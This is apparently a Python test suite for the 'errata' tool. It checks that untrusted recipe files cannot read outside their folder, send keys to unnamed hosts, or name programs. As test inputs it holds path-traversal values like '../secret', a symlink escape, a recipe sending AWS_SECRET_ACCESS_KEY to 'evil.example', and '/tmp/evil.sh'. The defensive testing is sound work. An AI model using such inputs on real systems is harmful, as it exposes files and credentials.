"""A stranger's recipe: what it may not read, send or run, and what `errata plan` says of what it may."""

from __future__ import annotations

import json
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from catalog.sources import SourceError
from flows.planning import recipe_file
from flows.planning.plan import make_plan
from flows.planning.recipe_file import open_recipe
from schemas.recipe.document import RecipeError
from tests.command import run_here

HEAD = "corpus: strange\nversion: 1.0.0\ntitle: T\nlicense: MIT\n"
SOLUTIONS = "import, files: a.jsonl, set: {value: s}, question: q, answer: a, model: m, text: t"
ASKING = "  asked: {task: judge, from: steps, models: [x]}\n  release: {task: release, from: asked}\n"
TABLES = f"tables:\n  solutions: {{task: {SOLUTIONS}}}\n  steps: {{task: split, from: solutions}}\n"


def ask(model: str) -> str:
    return f"{HEAD}models:\n  x: {{{model}}}\n{TABLES}{ASKING}"


def tables(*lines: str, release: str = "{task: release, from: steps}") -> str:
    return HEAD + TABLES + "".join(f"  {line}\n" for line in lines) + f"  release: {release}\n"


OUTSIDE = {
    "sources": tables().replace("a.jsonl", "../secret/a.jsonl"),
    "sources by pattern": tables().replace("a.jsonl", '"../secret/*.jsonl"'),
    "sources by a link": tables().replace("a.jsonl", "link.jsonl"),
    "joined files": tables().replace("text: t", 'text: t, join: {files: ../secret/a.jsonl, key: q, "on": q}'),
    "a format": tables().replace("set:", "format: ../secret/format.yaml, set:"),
    "a view": tables("v: {task: view, from: steps, format: ../secret/view.yaml}", release="{task: release, from: v}"),
    "a taxonomy": ask("engine: abacus").replace("judge, from", "classify, taxonomy: ../secret/taxonomy.yaml, from"),
    "gold": tables("g: {task: truth, from: steps, source: file, files: ../secret/a.jsonl, match: text, question: q}"),
    "test sets": tables("d: {task: decontaminate, from: steps, against: [{name: t, files: ../secret/a.jsonl, text: q}]}"),
    "an embedding": tables("d: {task: deduplicate, from: steps, by: semantic, across_answers: true, embedding: ../secret}"),
    "gold of a gate": tables("w: {task: verify, from: steps}", "l: {task: locate, from: w}", release="{task: release, from: l}") + "gates:\n  - {measure: precision, table: l, gold: ../secret/a.jsonl, at_least: 0.9}\n",
    "a checkpoint": ask("engine: abacus, checkpoint: ../secret"),
    "weights": ask("engine: llama, model: ../secret/a.gguf"),
    "weights of vLLM": ask("engine: vllm, model: ../secret"),
    "an adapter": ask("engine: vllm, model: a/b, lora: ../secret"),
    "a path that passes for a name": ask("engine: vllm, model: a/../../secret"),
    "recorded answers": ask("engine: recorded, model: m, file: ../secret/a.jsonl"),
}  # fmt: skip


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A recipe's folder beside a secret one."""
    for name in ("recipe", "secret"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "a.jsonl").write_text('{"q": "What is 1 + 1?", "a": "2", "m": "m", "t": "It is 2."}\n')
    (tmp_path / "recipe" / "link.jsonl").symlink_to(tmp_path / "secret" / "a.jsonl")
    return tmp_path / "recipe"


def write(folder: Path, text: str) -> str:
    (folder / "r.yaml").write_text(text)
    return str(folder / "r.yaml")


@pytest.mark.parametrize("text", OUTSIDE.values(), ids=OUTSIDE)
def test_no_file_outside_of_its_folder_is_read(folder: Path, text: str) -> None:
    recipe, store = write(folder, text), str(folder / "store")
    with pytest.raises(RecipeError, match=r"r\.yaml:\d+: .* lies outside of the recipe's folder .*--trust"):
        make_plan(recipe, None, store)


def test_a_trusted_one_reads_what_it_names(folder: Path) -> None:
    recipe = write(folder, OUTSIDE["sources"])
    plan = make_plan(recipe, None, str(folder / "store"), trust=True)
    assert [source.size for source in plan.jobs[0].sources] == [61]


def test_weights_that_the_user_names_may_lie_anywhere(folder: Path) -> None:
    recipe = write(folder, ask("engine: recorded, model: m, file: a.jsonl"))
    make_plan(recipe, None, str(folder / "store"))
    recipe = write(folder, ask("engine: vllm, model: a/b"))
    plan = make_plan(recipe, None, str(folder / "store"), {"x": {"model": str(folder.parent / "secret")}})
    (asked,) = plan.jobs[2].models
    assert asked.named.model == str(folder.parent / "secret")


def test_no_key_goes_to_a_host_that_the_user_has_not_named(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ERRATA_CONFIG", str(folder / "config.toml"))
    recipe = write(folder, ask("engine: openai, model: m, url: 'http://evil.example/v1', key: AWS_SECRET_ACCESS_KEY"))
    with pytest.raises(RecipeError) as raised:
        make_plan(recipe, None, str(folder / "store"))
    assert str(raised.value) == (
        f"{recipe}:6: models.x.key: the key AWS_SECRET_ACCESS_KEY would be sent to http://evil.example, which reads it in "
        "plain text, and no host may be sent it; if that is meant, write "
        f'`AWS_SECRET_ACCESS_KEY = ["http://evil.example"]` under [keys] of {folder}/config.toml'
    )
    (folder / "config.toml").write_text('[keys]\nAWS_SECRET_ACCESS_KEY = ["http://evil.example"]\n')
    assert make_plan(recipe, None, str(folder / "store")).jobs


def test_no_program_is_named(folder: Path) -> None:
    recipe = write(folder, ask("engine: vllm, model: a/b, python: /tmp/evil.sh"))
    with pytest.raises(RecipeError, match=r"`python` names a program, which no recipe does: .*ERRATA_VLLM_PYTHON"):
        open_recipe(recipe)


def test_a_plan_says_first_what_is_touched(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ERRATA_VLLM_PYTHON", "/opt/vllm/bin/python")
    text = ask("engine: openai, model: large, key: OPENAI_API_KEY")
    text = text.replace("\ntables", "\n  y: {engine: vllm, model: a/b}\ntables").replace(
        "models: [x]", "models: [x, y]"
    )
    recipe, store = write(folder, text), str(folder / "store")
    result = run_here(capsys, "plan", recipe, "--store", store)
    assert result.code == 0, result.err
    assert result.out.split("\n\n")[0].splitlines() == [
        "files     a.jsonl",
        "models    x: large (openai), y: a/b (vllm)",
        "hosts     api.openai.com, huggingface.co",
        "keys      OPENAI_API_KEY → api.openai.com",
        "programs  /opt/vllm/bin/python (vllm)",
    ]
    touched = json.loads(run_here(capsys, "plan", recipe, "--store", store, "--json").out)["touches"]
    assert touched["files"] == ["a.jsonl"] and touched["keys"] == ["OPENAI_API_KEY → api.openai.com"]


def test_checking_it_ends_whatever_takes_long(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def search(*_: object) -> None:
        while True:
            time.sleep(0.01)

    monkeypatch.setattr(recipe_file, "SECONDS", 0.5)
    monkeypatch.setattr(recipe_file, "_check_asking", search)
    recipe = write(folder, tables())
    with pytest.raises(RecipeError, match=r"r\.yaml:1: checking it takes more than 0\.5 s"):
        make_plan(recipe, None, str(folder / "store"))


def test_checking_it_ends_in_the_thread_of_a_server_too(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with ThreadPoolExecutor(1) as server:
        server.submit(test_checking_it_ends_whatever_takes_long, folder, monkeypatch).result(60)


def test_what_a_plan_names_as_the_next_command_finds_the_same(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ERRATA_STORE", str(folder / "store"))
    recipe = write(folder, tables())
    assert make_plan(recipe, None, str(folder / "store")).flags == ""
    data = str(folder / "my data")
    plan = make_plan(recipe, data, str(folder / "other"), trust=True)
    assert plan.flags == f" --data '{data}' --store {folder}/other --trust"
    monkeypatch.setenv("ERRATA_DATA", data)
    assert plan.flags == f" --store {folder}/other --trust"


def test_looking_for_what_it_names_ends(folder: Path) -> None:
    for name in ("a" * 240, "a" * 120):
        (folder / name).write_text("")
    recipe = write(folder, tables().replace("a.jsonl", f'"{"*a" * 30}*b"'))
    with pytest.raises(SourceError, match="no such file"):
        make_plan(recipe, None, str(folder / "store"))
